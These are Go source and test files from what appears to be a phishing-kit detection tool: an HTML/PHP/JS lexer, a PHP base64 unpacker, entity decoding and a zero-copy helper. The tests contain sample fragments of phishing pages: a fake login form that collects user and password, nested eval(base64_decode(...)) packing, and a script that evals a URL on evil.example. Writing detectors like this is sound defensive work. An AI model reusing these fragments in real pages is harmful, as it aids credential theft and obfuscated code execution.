// hooking a JavaScript engine's eval loop, the authors "implemented
// unpackers for all kits under investigation" — exactly what this package
// does. Each unpacker statically recognizes its kit's encoding in the token
// stream and decodes the inner payload; all of them fail cleanly on
// non-matching input.
package unpack
