// Package zerocopy holds the one unsafe conversion the serving hot path
// is built on: viewing a []byte as a string without copying it. The
// gateway reads every response body into a pooled buffer and scans it in
// place; copying each body into a fresh string (the pre-PR-7 path) cost
// an allocation plus a full memory copy per vetted response, which at
// provider scale is most of the admission path's allocation traffic.
//
// The view aliases the byte slice's memory, so the usual string
// immutability guarantee does not hold. Callers must enforce two rules:
//
//   - the bytes must not be mutated (or returned to a pool) while any
//     reference to the view — or to substrings of it, such as lexer
//     tokens — is still live;
//   - the view must not be stored past the operation it was made for
//     (scan results must carry no substrings of the document, only
//     values owned elsewhere).
//
// Both call sites in this repository (sigmatch scanning, gateway
// vetting) satisfy these by construction: tokens live only for the
// duration of one scan, and Match results carry only signature-owned
// family strings and integer offsets.
package zerocopy

import "unsafe"

// String returns a string view of b without copying. See the package
// comment for the aliasing rules callers must uphold.
func String(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	return unsafe.String(unsafe.SliceData(b), len(b))
}

// Bytes returns a []byte view of s without copying — the inverse of
// String, used to route string compatibility wrappers through the
// byte-path implementations. The view aliases the string's memory, which
// the runtime assumes is immutable: the caller must never write to the
// returned slice, and the same lifetime rules as String apply.
func Bytes(s string) []byte {
	if len(s) == 0 {
		return nil
	}
	return unsafe.Slice(unsafe.StringData(s), len(s))
}
