package zerocopy

import "testing"

func TestString(t *testing.T) {
	b := []byte("hello, world")
	s := String(b)
	if s != "hello, world" {
		t.Fatalf("String = %q", s)
	}
	// The view must alias the slice's memory, not copy it — that is the
	// entire point of the package.
	b[0] = 'H'
	if s != "Hello, world" {
		t.Fatalf("view did not alias the slice: %q", s)
	}
	if String(nil) != "" || String([]byte{}) != "" {
		t.Fatal("empty slices must view as the empty string")
	}
}

func TestStringDoesNotAllocate(t *testing.T) {
	b := []byte("some document body")
	var s string
	if n := testing.AllocsPerRun(100, func() { s = String(b) }); n != 0 {
		t.Fatalf("String allocated %.1f times per call", n)
	}
	_ = s
}
