package webkittoken

import "kizzle/internal/jstoken"

// Scratch is a reusable symbol-lexing arena mirroring jstoken.Scratch:
// hot paths lex each document into the retained buffer and copy the
// exact-size result out, amortizing per-document allocations away.
type Scratch struct {
	syms []jstoken.Symbol
}

// AppendSymbols lexes doc's webkit abstraction symbols and appends them
// to dst, reusing the scratch arena across calls. Character references
// decode first, so the streaming path emits exactly the symbols a
// one-shot LexSymbols call would.
func (s *Scratch) AppendSymbols(dst []jstoken.Symbol, doc string) []jstoken.Symbol {
	lx := lexer{src: DecodeEntities(doc), symsOnly: true, syms: s.syms[:0]}
	lx.run()
	s.syms = lx.syms
	return append(dst, lx.syms...)
}
