package webkittoken

import (
	"strings"
	"testing"

	"kizzle/internal/jstoken"
)

// TestLexAlphabetAndDeterminism pins the lexer's core contracts on a
// representative phishing-kit bundle: every emitted symbol stays inside
// the declared alphabet, repeated lexes agree byte-for-byte, and the
// three lexing surfaces (Lex, LexSymbols, Scratch.AppendSymbols) produce
// the same abstraction sequence.
func TestLexAlphabetAndDeterminism(t *testing.T) {
	doc := `<?php $key = base64_decode("dmFy"); echo $key; ?>
<html><head><title>Secure Login</title></head>
<body onload="init()">
<form action="post.php" method="POST">
<input type="text" name="user"/><input type="password" name="pass">
<script>var go = function(){ if (true) { document.forms[0].submit(); } };</script>
</form></body></html>`

	tokens := Lex(doc)
	if len(tokens) == 0 {
		t.Fatal("lexer produced no tokens")
	}
	space := jstoken.Symbol(SymbolSpace())
	for i, tok := range tokens {
		if s := tok.Symbol(); s >= space {
			t.Fatalf("token %d (%q) symbol %d outside alphabet [0, %d)", i, tok.Text, s, space)
		}
		if got := SymbolFor(tok.Class, tok.Text); got != tok.Symbol() {
			t.Fatalf("token %d (%q): cached symbol %d, SymbolFor recomputes %d", i, tok.Text, tok.Symbol(), got)
		}
	}

	fromTokens := jstoken.Abstract(tokens)
	direct := LexSymbols(doc)
	var scratch Scratch
	scratched := scratch.AppendSymbols(nil, doc)
	if len(direct) != len(fromTokens) || len(scratched) != len(fromTokens) {
		t.Fatalf("surface lengths diverge: tokens=%d direct=%d scratch=%d",
			len(fromTokens), len(direct), len(scratched))
	}
	for i := range fromTokens {
		if direct[i] != fromTokens[i] || scratched[i] != fromTokens[i] {
			t.Fatalf("symbol %d diverges: tokens=%d direct=%d scratch=%d",
				i, fromTokens[i], direct[i], scratched[i])
		}
	}
	again := LexSymbols(doc)
	for i := range direct {
		if again[i] != direct[i] {
			t.Fatalf("re-lex diverged at symbol %d", i)
		}
	}

	// The bundle exercises all three languages: markup tag names, PHP
	// keywords, and JS keywords must each surface as keyword tokens.
	wantKeywords := []string{"html", "input", "echo", "var", "function", "if"}
	seenKw, seenPunct := make(map[string]bool), make(map[string]bool)
	for _, tok := range tokens {
		switch tok.Class {
		case jstoken.ClassKeyword:
			seenKw[tok.Text] = true
		case jstoken.ClassPunct:
			seenPunct[tok.Text] = true
		}
	}
	for _, kw := range wantKeywords {
		if !seenKw[kw] {
			t.Errorf("keyword %q not lexed as ClassKeyword", kw)
		}
	}
	for _, p := range []string{"<?php", "?>", "</", "{"} {
		if !seenPunct[p] {
			t.Errorf("punctuator %q not lexed as ClassPunct", p)
		}
	}
}

// TestSymbolForUnknownFallsBack: texts outside the fixed keyword and
// punctuator tables must collapse to SymIdentifier rather than invent
// out-of-alphabet symbols (the cache-restore path depends on it).
func TestSymbolForUnknownFallsBack(t *testing.T) {
	for _, tc := range []struct {
		class jstoken.Class
		text  string
	}{
		{jstoken.ClassKeyword, "notakeyword"},
		{jstoken.ClassPunct, "§"},
		{jstoken.Class(99), "x"},
	} {
		if got := SymbolFor(tc.class, tc.text); got != jstoken.SymIdentifier {
			t.Errorf("SymbolFor(%v, %q) = %d, want SymIdentifier", tc.class, tc.text, got)
		}
	}
	if SymbolFor(jstoken.ClassText, "hello world") != SymText {
		t.Error("text runs must collapse to SymText")
	}
}

// TestUnpack pins the PHP base64 unpacker: single and nested layers
// decode deterministically (always the first occurrence), the nesting
// bound holds, and unpacked-free documents return ErrNotPacked.
func TestUnpack(t *testing.T) {
	// base64("var x = 1;") = dmFyIHggPSAxOw==
	got, err := Unpack(`<?php eval(base64_decode("dmFyIHggPSAxOw==")); ?>`)
	if err != nil || got != "var x = 1;" {
		t.Fatalf("single layer: got %q, err %v", got, err)
	}
	// Nested: base64 of the single-layer document above.
	inner := `eval(base64_decode('dmFyIHggPSAxOw=='));`
	outer := `<?php eval(base64_decode("` + b64(inner) + `")); ?>`
	got, err = Unpack(outer)
	if err != nil || got != "var x = 1;" {
		t.Fatalf("nested layers: got %q, err %v", got, err)
	}
	// First occurrence wins when two calls are present.
	got, err = Unpack(`base64_decode("dmFyIHggPSAxOw==") base64_decode("emVybw==")`)
	if err != nil || got != "var x = 1;" {
		t.Fatalf("first occurrence: got %q, err %v", got, err)
	}
	for _, doc := range []string{
		"",
		"<html><body>plain page</body></html>",
		`base64_decode($var)`,           // non-literal argument
		`base64_decode("!!!notbase64")`, // undecodable literal
		`base64_decode("dmFyIHggPSAxOw`, // unterminated literal
	} {
		if _, err := Unpack(doc); err == nil {
			t.Errorf("Unpack(%.40q) found packing in an unpacked document", doc)
		}
	}
}

func b64(s string) string {
	const std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var sb strings.Builder
	b := []byte(s)
	for len(b) >= 3 {
		n := int(b[0])<<16 | int(b[1])<<8 | int(b[2])
		sb.WriteByte(std[n>>18])
		sb.WriteByte(std[n>>12&63])
		sb.WriteByte(std[n>>6&63])
		sb.WriteByte(std[n&63])
		b = b[3:]
	}
	switch len(b) {
	case 1:
		n := int(b[0]) << 16
		sb.WriteByte(std[n>>18])
		sb.WriteByte(std[n>>12&63])
		sb.WriteString("==")
	case 2:
		n := int(b[0])<<16 | int(b[1])<<8
		sb.WriteByte(std[n>>18])
		sb.WriteByte(std[n>>12&63])
		sb.WriteByte(std[n>>6&63])
		sb.WriteByte('=')
	}
	return sb.String()
}

// FuzzWebkitTokenize fuzzes the full webkit ingest surface — the
// HTML/PHP/JS lexer and the base64 unpacker — with attacker-shaped
// documents. Phishing pages are the most hostile bytes the pipeline
// sees; neither stage may panic, every emitted symbol must stay inside
// the declared alphabet, and lexing must be deterministic.
func FuzzWebkitTokenize(f *testing.F) {
	f.Add("<html><body>hi</body></html>")
	f.Add("<?php echo base64_decode(\"dmFy\"); ?>")
	f.Add("<script>var x = '</script><script>'</script>")
	f.Add("<div class=\"a\" onclick='f(")
	f.Add("<?= $x ?><?php if ($a): ?><b><?php endif")
	f.Add("<!-- <script> --><input type=text value=\"\x00\xff\">")
	f.Add("base64_decode(\"" + strings.Repeat("dmFy", 500) + "\")")
	f.Add("<a href=\"javascript:eval('\\u0041')\">»</a>")
	f.Fuzz(func(t *testing.T, doc string) {
		syms := LexSymbols(doc)
		space := jstoken.Symbol(SymbolSpace())
		for i, s := range syms {
			if s >= space {
				t.Fatalf("symbol %d = %d outside alphabet [0, %d)", i, s, space)
			}
		}
		tokens := Lex(doc)
		fromTokens := jstoken.Abstract(tokens)
		if len(fromTokens) != len(syms) {
			t.Fatalf("Lex emits %d symbols, LexSymbols %d", len(fromTokens), len(syms))
		}
		for i := range syms {
			if fromTokens[i] != syms[i] {
				t.Fatalf("symbol %d: Lex=%d LexSymbols=%d", i, fromTokens[i], syms[i])
			}
		}
		if payload, err := Unpack(doc); err == nil {
			// Whatever the unpacker recovered must itself lex cleanly.
			for i, s := range LexSymbols(payload) {
				if s >= space {
					t.Fatalf("unpacked symbol %d = %d outside alphabet", i, s)
				}
			}
		}
	})
}
