package webkittoken

import (
	"strings"

	"kizzle/internal/jstoken"
)

// Lex tokenizes a full HTML/PHP/JS bundle into tokens carrying their
// webkit abstraction symbols. HTML character references are decoded
// first (see DecodeEntities), so entity-encoded markup cannot hide from
// the alphabet; token positions refer to the decoded document.
func Lex(src string) []jstoken.Token {
	lx := lexer{src: DecodeEntities(src)}
	lx.run()
	return lx.tokens
}

// LexDocument is Lex: for webkit bundles the whole document is the
// source — markup structure is part of the alphabet, so nothing is
// extracted or discarded first. The name mirrors jstoken.LexDocument so
// profiles expose a uniform surface.
func LexDocument(doc string) []jstoken.Token { return Lex(doc) }

// LexSymbols tokenizes straight to abstraction symbols without
// materializing tokens. Character references decode first, exactly as
// in Lex.
func LexSymbols(src string) []jstoken.Symbol {
	lx := lexer{src: DecodeEntities(src), symsOnly: true}
	lx.run()
	return lx.syms
}

// codeLang selects the code-mode dialect, which only differs in its
// terminator: PHP blocks end at ?>, script blocks end at </script.
type codeLang int

const (
	langJS codeLang = iota
	langPHP
)

type lexer struct {
	src      string
	pos      int
	tokens   []jstoken.Token
	syms     []jstoken.Symbol
	symsOnly bool
}

// emitRange records one token spanning src[start:end]. Every emit (and
// every skip) advances pos, so the outer loops always terminate.
func (lx *lexer) emitRange(class jstoken.Class, start, end int, sym jstoken.Symbol) {
	if lx.symsOnly {
		lx.syms = append(lx.syms, sym)
		return
	}
	lx.tokens = append(lx.tokens, jstoken.MakeToken(class, lx.src[start:end], start, sym))
}

func (lx *lexer) emitPunct(start int, p string) {
	lx.emitRange(jstoken.ClassPunct, start, start+len(p), punctSymbol(punctIndex[p]))
}

func (lx *lexer) run() {
	for lx.pos < len(lx.src) {
		lx.markup()
	}
}

// markup lexes one markup-mode item: a comment, a processing/script
// entry into code mode, a tag, or a text run.
func (lx *lexer) markup() {
	src, pos := lx.src, lx.pos
	if src[pos] != '<' {
		lx.textRun()
		return
	}
	switch {
	case strings.HasPrefix(src[pos:], "<!--"):
		if end := strings.Index(src[pos+4:], "-->"); end >= 0 {
			lx.pos = pos + 4 + end + 3
		} else {
			lx.pos = len(src)
		}
	case strings.HasPrefix(src[pos:], "<?php"):
		lx.pos = pos + 5
		lx.emitPunct(pos, "<?php")
		lx.code(langPHP)
	case strings.HasPrefix(src[pos:], "<?="):
		lx.pos = pos + 3
		lx.emitPunct(pos, "<?=")
		lx.code(langPHP)
	case strings.HasPrefix(src[pos:], "</"):
		lx.closeTag()
	case pos+1 < len(src) && (isNameStart(src[pos+1]) || src[pos+1] == '!'):
		lx.openTag()
	default:
		// A stray '<' (including "<?" without php/=) folds into text.
		lx.textRun()
	}
}

// textRun collapses character data up to the next '<' into one Text
// token, trimming surrounding whitespace; whitespace-only runs emit
// nothing. The first byte is always consumed, so a stray '<' cannot
// stall the lexer.
func (lx *lexer) textRun() {
	src := lx.src
	start := lx.pos
	end := start + 1
	for end < len(src) && src[end] != '<' {
		end++
	}
	lx.pos = end
	s, e := start, end
	for s < e && isSpace(src[s]) {
		s++
	}
	for e > s && isSpace(src[e-1]) {
		e--
	}
	if s < e {
		lx.emitRange(jstoken.ClassText, s, e, SymText)
	}
}

func (lx *lexer) openTag() {
	src := lx.src
	start := lx.pos
	lx.pos++
	lx.emitPunct(start, "<")
	if lx.pos < len(src) && src[lx.pos] == '!' {
		p := lx.pos
		lx.pos++
		lx.emitPunct(p, "!")
	}
	name := lx.tagName()
	if lx.attrs() && strings.EqualFold(name, "script") {
		lx.code(langJS)
	}
}

func (lx *lexer) closeTag() {
	start := lx.pos
	lx.pos += 2
	lx.emitPunct(start, "</")
	lx.tagName()
	lx.attrs()
}

// attrs lexes attribute names, '=', and values until the tag closes;
// it reports whether the tag ended with a plain '>' (the case where a
// <script> tag has a body to switch modes for).
func (lx *lexer) attrs() (openEnded bool) {
	src := lx.src
	for lx.pos < len(src) {
		c := src[lx.pos]
		switch {
		case isSpace(c):
			lx.pos++
		case c == '/' && strings.HasPrefix(src[lx.pos:], "/>"):
			p := lx.pos
			lx.pos += 2
			lx.emitPunct(p, "/>")
			return false
		case c == '>':
			p := lx.pos
			lx.pos++
			lx.emitPunct(p, ">")
			return true
		case c == '=':
			p := lx.pos
			lx.pos++
			lx.emitPunct(p, "=")
		case c == '"' || c == '\'':
			lx.markupString(c)
		case isNameStart(c):
			lx.name()
		case c >= '0' && c <= '9':
			lx.number()
		default:
			lx.pos++ // junk byte inside a tag: drop it
		}
	}
	return false
}

// tagName lexes the name right after '<', '</' or '<!', if present.
func (lx *lexer) tagName() string {
	if lx.pos >= len(lx.src) || !isNameStart(lx.src[lx.pos]) {
		return ""
	}
	start := lx.pos
	lx.name()
	return lx.src[start:lx.pos]
}

// name lexes a markup name (tag or attribute): letters, digits, '-',
// '_', ':'. Names on the keyword list keep their symbol identity.
func (lx *lexer) name() {
	src := lx.src
	start := lx.pos
	lx.pos++
	for lx.pos < len(src) && isNamePart(src[lx.pos]) {
		lx.pos++
	}
	word := src[start:lx.pos]
	if i, ok := keywordIndex[word]; ok {
		lx.emitRange(jstoken.ClassKeyword, start, lx.pos, keywordSymbol(i))
		return
	}
	lx.emitRange(jstoken.ClassIdentifier, start, lx.pos, jstoken.SymIdentifier)
}

// markupString lexes a quoted attribute value: no escapes, newlines
// allowed, unterminated runs to end of input.
func (lx *lexer) markupString(q byte) {
	src := lx.src
	start := lx.pos
	lx.pos++
	if i := strings.IndexByte(src[lx.pos:], q); i >= 0 {
		lx.pos += i + 1
	} else {
		lx.pos = len(src)
	}
	lx.emitRange(jstoken.ClassString, start, lx.pos, jstoken.SymString)
}

// code lexes PHP/JS-style code until the dialect's terminator. A '/' is
// always a comment opener or punctuator, never a regex literal: phishing
// kits rarely need them and skipping regex detection removes the one
// context-dependent (and fuzz-hostile) piece of JS lexing.
func (lx *lexer) code(lang codeLang) {
	src := lx.src
	for lx.pos < len(src) {
		// Terminators win over operator lexing.
		if lang == langPHP && strings.HasPrefix(src[lx.pos:], "?>") {
			p := lx.pos
			lx.pos += 2
			lx.emitPunct(p, "?>")
			return
		}
		if lang == langJS && hasFoldPrefix(src[lx.pos:], "</script") {
			return // markup mode re-lexes the closing tag
		}
		c := src[lx.pos]
		switch {
		case isSpace(c):
			lx.pos++
		case c == '#':
			lx.lineComment()
		case c == '/':
			if lx.pos+1 < len(src) && src[lx.pos+1] == '/' {
				lx.lineComment()
			} else if lx.pos+1 < len(src) && src[lx.pos+1] == '*' {
				lx.blockComment()
			} else {
				lx.punct()
			}
		case c == '"' || c == '\'' || c == '`':
			lx.codeString(c)
		case c >= '0' && c <= '9':
			lx.number()
		case c == '.' && lx.pos+1 < len(src) && src[lx.pos+1] >= '0' && src[lx.pos+1] <= '9':
			lx.number()
		case isIdentStart(c):
			lx.ident()
		default:
			lx.punct()
		}
	}
}

func (lx *lexer) lineComment() {
	src := lx.src
	lx.pos++
	for lx.pos < len(src) && src[lx.pos] != '\n' {
		lx.pos++
	}
}

func (lx *lexer) blockComment() {
	src := lx.src
	if end := strings.Index(src[lx.pos+2:], "*/"); end >= 0 {
		lx.pos += 2 + end + 2
	} else {
		lx.pos = len(src)
	}
}

// codeString lexes a quoted code literal with backslash escapes. A line
// break ends a non-backtick string (unterminated), matching the JS
// lexer's recovery.
func (lx *lexer) codeString(q byte) {
	src := lx.src
	start := lx.pos
	lx.pos++
	for lx.pos < len(src) {
		c := src[lx.pos]
		if c == '\\' && lx.pos+1 < len(src) {
			lx.pos += 2
			continue
		}
		if c == q {
			lx.pos++
			break
		}
		if q != '`' && (c == '\n' || c == '\r') {
			break
		}
		lx.pos++
	}
	lx.emitRange(jstoken.ClassString, start, lx.pos, jstoken.SymString)
}

func (lx *lexer) number() {
	src := lx.src
	start := lx.pos
	if strings.HasPrefix(src[start:], "0x") || strings.HasPrefix(src[start:], "0X") {
		lx.pos = start + 2
		for lx.pos < len(src) && isHex(src[lx.pos]) {
			lx.pos++
		}
	} else {
		for lx.pos < len(src) && isDigit(src[lx.pos]) {
			lx.pos++
		}
		if lx.pos < len(src) && src[lx.pos] == '.' {
			lx.pos++
			for lx.pos < len(src) && isDigit(src[lx.pos]) {
				lx.pos++
			}
		}
		if lx.pos < len(src) && (src[lx.pos] == 'e' || src[lx.pos] == 'E') {
			p := lx.pos + 1
			if p < len(src) && (src[p] == '+' || src[p] == '-') {
				p++
			}
			if p < len(src) && isDigit(src[p]) {
				lx.pos = p
				for lx.pos < len(src) && isDigit(src[lx.pos]) {
					lx.pos++
				}
			}
		}
	}
	lx.emitRange(jstoken.ClassNumber, start, lx.pos, jstoken.SymNumber)
}

// ident lexes a code identifier ('$'-capable, so PHP variables work).
func (lx *lexer) ident() {
	src := lx.src
	start := lx.pos
	lx.pos++
	for lx.pos < len(src) && isIdentPart(src[lx.pos]) {
		lx.pos++
	}
	word := src[start:lx.pos]
	if i, ok := keywordIndex[word]; ok {
		lx.emitRange(jstoken.ClassKeyword, start, lx.pos, keywordSymbol(i))
		return
	}
	lx.emitRange(jstoken.ClassIdentifier, start, lx.pos, jstoken.SymIdentifier)
}

// punctByFirst indexes puncts by first byte; within a bucket the global
// longest-first order is preserved, so the first prefix hit is maximal.
var punctByFirst = func() [256][]int16 {
	var t [256][]int16
	for i, p := range puncts {
		t[p[0]] = append(t[p[0]], int16(i))
	}
	return t
}()

func (lx *lexer) punct() {
	src := lx.src
	for _, pi := range punctByFirst[src[lx.pos]] {
		p := puncts[pi]
		if strings.HasPrefix(src[lx.pos:], p) {
			start := lx.pos
			lx.pos += len(p)
			lx.emitRange(jstoken.ClassPunct, start, lx.pos, punctSymbol(int(pi)))
			return
		}
	}
	lx.pos++ // byte with no punctuator: drop it
}

func hasFoldPrefix(s, prefix string) bool {
	if len(s) < len(prefix) {
		return false
	}
	return strings.EqualFold(s[:len(prefix)], prefix)
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v'
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isHex(c byte) bool {
	return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func isAlpha(c byte) bool {
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isNameStart(c byte) bool { return isAlpha(c) }

func isNamePart(c byte) bool {
	return isAlpha(c) || isDigit(c) || c == '-' || c == '_' || c == ':'
}

func isIdentStart(c byte) bool {
	return isAlpha(c) || c == '_' || c == '$' || c >= 0x80
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }
