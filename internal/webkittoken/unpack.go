package webkittoken

import (
	"encoding/base64"
	"errors"
	"strings"
)

// ErrNotPacked reports that no recognized packing was found in the
// document, mirroring internal/unpack.ErrNotPacked for the JS kits.
var ErrNotPacked = errors.New("webkittoken: document is not packed")

// maxUnpackLayers bounds nested base64 unwrapping; phishing kits observed
// in the wild rarely nest more than twice.
const maxUnpackLayers = 3

// Unpack peels PHP-style base64 packing: it finds the first
// base64_decode("...") (or '...') call, decodes the literal, and repeats
// on the decoded payload up to maxUnpackLayers times. Deterministic by
// construction — always the first occurrence, standard alphabet only —
// so warm and cold pipeline runs agree.
func Unpack(doc string) (string, error) {
	// Entity-decode first so base64_decode(&quot;...&quot;) is found; the
	// base64 alphabet contains no '&', so literals themselves are immune.
	cur, ok := decodeFirst(DecodeEntities(doc))
	if !ok {
		return "", ErrNotPacked
	}
	for layer := 1; layer < maxUnpackLayers; layer++ {
		inner, ok := decodeFirst(cur)
		if !ok {
			break
		}
		cur = inner
	}
	return cur, nil
}

// decodeFirst extracts and decodes the first base64_decode string
// literal, if any.
func decodeFirst(doc string) (string, bool) {
	const marker = "base64_decode("
	i := strings.Index(doc, marker)
	if i < 0 {
		return "", false
	}
	rest := doc[i+len(marker):]
	if rest == "" || (rest[0] != '"' && rest[0] != '\'') {
		return "", false
	}
	q := rest[0]
	end := strings.IndexByte(rest[1:], q)
	if end < 0 {
		return "", false
	}
	lit := rest[1 : 1+end]
	dec, err := base64.StdEncoding.DecodeString(lit)
	if err != nil {
		if dec, err = base64.RawStdEncoding.DecodeString(lit); err != nil {
			return "", false
		}
	}
	return string(dec), true
}
