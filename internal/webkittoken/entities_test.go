package webkittoken

import (
	"reflect"
	"testing"
)

func TestDecodeEntities(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"plain text, no entities", "plain text, no entities"},
		{"&lt;script&gt;", "<script>"},
		{"&quot;x&quot; &apos;y&apos;", `"x" 'y'`},
		{"a&nbsp;b", "a b"},
		{"&#60;&#62;", "<>"},
		{"&#x3C;&#X3e;", "<>"},
		{"&#038;", "&"},
		// Single pass: the decoded '&' of &amp; is never re-scanned, so
		// browser-visible text round-trips instead of double-decoding.
		{"&amp;lt;", "&lt;"},
		{"&amp;amp;", "&amp;"},
		// Malformed references pass through byte-for-byte.
		{"&bogus;", "&bogus;"},
		{"&lt", "&lt"},
		{"& lt;", "& lt;"},
		{"&#;", "&#;"},
		{"&#x;", "&#x;"},
		{"&#xZZ;", "&#xZZ;"},
		{"&#0;", "&#0;"},
		{"&#xD800;", "&#xD800;"},
		{"&#99999999;", "&#99999999;"},
		// 8-hex-digit values above 0x7FFFFFFF would wrap an int32
		// accumulator negative and slip past the MaxRune guard; they must
		// pass through verbatim, not decode to U+FFFD.
		{"&#xFFFFFFFF;", "&#xFFFFFFFF;"},
		{"&#x80000000;", "&#x80000000;"},
		{"&#x00110000;", "&#x00110000;"},
		{"tail &", "tail &"},
		{"&&lt;", "&<"},
		// Mixed document: decodable and junk interleaved.
		{"x&lt;y&nope;z&#65;", "x<y&nope;zA"},
	}
	for _, tc := range cases {
		if got := DecodeEntities(tc.in); got != tc.want {
			t.Errorf("DecodeEntities(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestDecodeEntitiesNoAllocPassthrough pins the hot-path guarantee: an
// un-encoded document (the overwhelming majority) costs zero
// allocations and returns the input string itself.
func TestDecodeEntitiesNoAllocPassthrough(t *testing.T) {
	doc := "<html><script>var a = 'x && y';</script></html>"
	if got := DecodeEntities(doc); got != doc {
		t.Fatalf("passthrough changed the document: %q", got)
	}
	if n := testing.AllocsPerRun(100, func() { DecodeEntities(doc) }); n != 0 {
		t.Errorf("passthrough allocated %.1f times per run, want 0", n)
	}
}

// TestEntityEncodedLexesAsDecodedTwin is the satellite's acceptance
// criterion: an entity-encoded webkit sample must lex (tokens and
// symbols, one-shot and streaming) identically to its decoded twin.
func TestEntityEncodedLexesAsDecodedTwin(t *testing.T) {
	decoded := `<html><body onload="go()">` +
		`<script>var u = "http://evil.example/?a=1&b=2"; eval(u);</script>` +
		`<?php echo base64_decode("dmFyIHggPSAxOw"); ?></body></html>`
	encoded := `&lt;html&gt;&lt;body onload=&quot;go()&quot;&gt;` +
		`&lt;script&gt;var u = &quot;http://evil.example/?a=1&amp;b=2&quot;; eval(u);&lt;/script&gt;` +
		`&lt;?php echo base64_decode(&quot;dmFyIHggPSAxOw&quot;); ?&gt;&lt;/body&gt;&lt;/html&gt;`

	wantTokens := Lex(decoded)
	if len(wantTokens) == 0 {
		t.Fatal("decoded twin lexed to nothing")
	}
	if got := Lex(encoded); !reflect.DeepEqual(got, wantTokens) {
		t.Errorf("entity-encoded sample lexed differently from its decoded twin\n got: %v\nwant: %v", got, wantTokens)
	}

	wantSyms := LexSymbols(decoded)
	if got := LexSymbols(encoded); !reflect.DeepEqual(got, wantSyms) {
		t.Errorf("LexSymbols diverged on the encoded sample")
	}
	// Streaming Scratch must stay ≡ one-shot Lex on encoded input too.
	var sc Scratch
	for i := 0; i < 2; i++ { // reuse the arena once to catch retained-state bugs
		if got := sc.AppendSymbols(nil, encoded); !reflect.DeepEqual(got, wantSyms) {
			t.Errorf("Scratch.AppendSymbols pass %d diverged from LexSymbols", i)
		}
	}
}

// TestUnpackEntityEncoded pins unpacking through entity-encoded quoting:
// the packer call site is hidden behind &quot; but the payload must
// still come out.
func TestUnpackEntityEncoded(t *testing.T) {
	got, err := Unpack(`<?php eval(base64_decode(&quot;dmFyIHggPSAxOw==&quot;)); ?>`)
	if err != nil {
		t.Fatal(err)
	}
	if got != "var x = 1;" {
		t.Fatalf("unpacked %q", got)
	}
}
