package webkittoken

import "kizzle/internal/jstoken"

// SymText is the collapsed abstraction symbol for markup text runs
// (jstoken.ClassText). It sits in the reserved band below symbolBase,
// alongside jstoken's SymIdentifier/SymString/SymNumber, which this
// alphabet reuses for the corresponding collapsed classes.
const SymText jstoken.Symbol = 5

// symbolBase mirrors jstoken: keyword and punctuator symbols are assigned
// from here up, so the reserved collapsed-class band stays disjoint.
const symbolBase jstoken.Symbol = 16

// keywords fixes the webkit alphabet's named symbols: common HTML tag
// names, PHP keywords, and the JS/PHP shared keyword set, deduplicated.
// Order is fixed — symbol identity depends on it — so entries are only
// ever appended.
var keywords = []string{
	// HTML tag names (matched case-sensitively; real-world phishing kits
	// and the synth generator emit lowercase markup).
	"html", "head", "body", "title", "meta", "link", "script", "style",
	"div", "span", "form", "input", "iframe", "img", "a", "p", "br",
	"table", "tr", "td", "button", "label", "select", "option", "textarea",
	"center", "font", "h1", "h2", "h3", "ul", "li", "header", "footer",
	"nav", "section",
	// PHP keywords not shared with JS.
	"php", "echo", "print", "foreach", "as", "isset", "unset", "empty",
	"include", "include_once", "require", "require_once", "die", "exit",
	"array", "global", "namespace", "use", "public", "private",
	"protected", "static", "endif", "endforeach", "elseif", "list",
	// Keywords shared by JS and PHP (or JS-only, for embedded scripts).
	"var", "let", "const", "function", "if", "else", "return", "true",
	"false", "null", "new", "for", "while", "do", "switch", "case",
	"break", "continue", "default", "try", "catch", "throw", "this",
	"typeof", "in", "instanceof", "delete", "void", "class", "extends",
	"undefined",
}

// puncts lists every punctuator, longest first so the lexer greedily
// matches multi-character operators. The set is the union of the markup
// delimiters, the PHP operators, and the JS operator set. Order is fixed.
var puncts = []string{
	"<?php",
	">>>=",
	"<?=", "===", "!==", ">>>", "<<=", ">>=", "**=", "...",
	"?>", "</", "/>", "->", "=>", ".=", "::",
	"==", "!=", "<=", ">=", "&&", "||", "++", "--", "<<", ">>",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "**", "?.", "??",
	"{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/",
	"%", "&", "|", "^", "!", "~", "?", ":", "=", ".", "@",
}

var (
	keywordIndex = buildIndex(keywords)
	punctIndex   = buildIndex(puncts)
)

func buildIndex(items []string) map[string]int {
	m := make(map[string]int, len(items))
	for i, s := range items {
		m[s] = i
	}
	return m
}

// SymbolSpace returns the exclusive upper bound of the webkit abstraction
// alphabet: every symbol this lexer emits is < SymbolSpace().
func SymbolSpace() int { return int(symbolBase) + len(keywords) + len(puncts) }

func keywordSymbol(i int) jstoken.Symbol {
	return symbolBase + jstoken.Symbol(i)
}

func punctSymbol(i int) jstoken.Symbol {
	return symbolBase + jstoken.Symbol(len(keywords)) + jstoken.Symbol(i)
}

// SymbolFor recomputes the abstraction symbol the lexer would have cached
// on a token of the given class and text. Cache codecs use it to restore
// webkit symbols on tokens decoded from disk (the persisted form drops
// the cached symbol), keeping warm and cold runs bit-identical.
func SymbolFor(class jstoken.Class, text string) jstoken.Symbol {
	switch class {
	case jstoken.ClassText:
		return SymText
	case jstoken.ClassIdentifier:
		return jstoken.SymIdentifier
	case jstoken.ClassString:
		return jstoken.SymString
	case jstoken.ClassNumber:
		return jstoken.SymNumber
	case jstoken.ClassKeyword:
		if i, ok := keywordIndex[text]; ok {
			return keywordSymbol(i)
		}
		return jstoken.SymIdentifier
	case jstoken.ClassPunct:
		if i, ok := punctIndex[text]; ok {
			return punctSymbol(i)
		}
		return jstoken.SymIdentifier
	default:
		return jstoken.SymIdentifier
	}
}

// IsKeyword reports whether word is lexed as a webkit keyword.
func IsKeyword(word string) bool {
	_, ok := keywordIndex[word]
	return ok
}
